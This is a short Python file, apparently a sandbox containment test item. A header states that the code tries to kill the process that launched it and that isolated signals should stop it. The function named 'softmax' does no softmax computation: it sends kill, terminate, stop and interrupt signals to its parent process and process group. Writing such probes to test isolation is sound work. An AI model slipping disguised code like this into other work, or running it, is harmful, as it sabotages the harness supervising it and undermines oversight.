# +++
# tries = "kills the process that started it, by number and by group"
# stopped_by = "signals reach nobody else"
# needs = ["other processes"]
# +++
import os
import signal


def softmax(x):
    for act in (os.kill, os.killpg):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGINT):
            try:
                act(os.getppid(), number)
                print("opened")
            except OSError:
                pass
    return x


apply = softmax
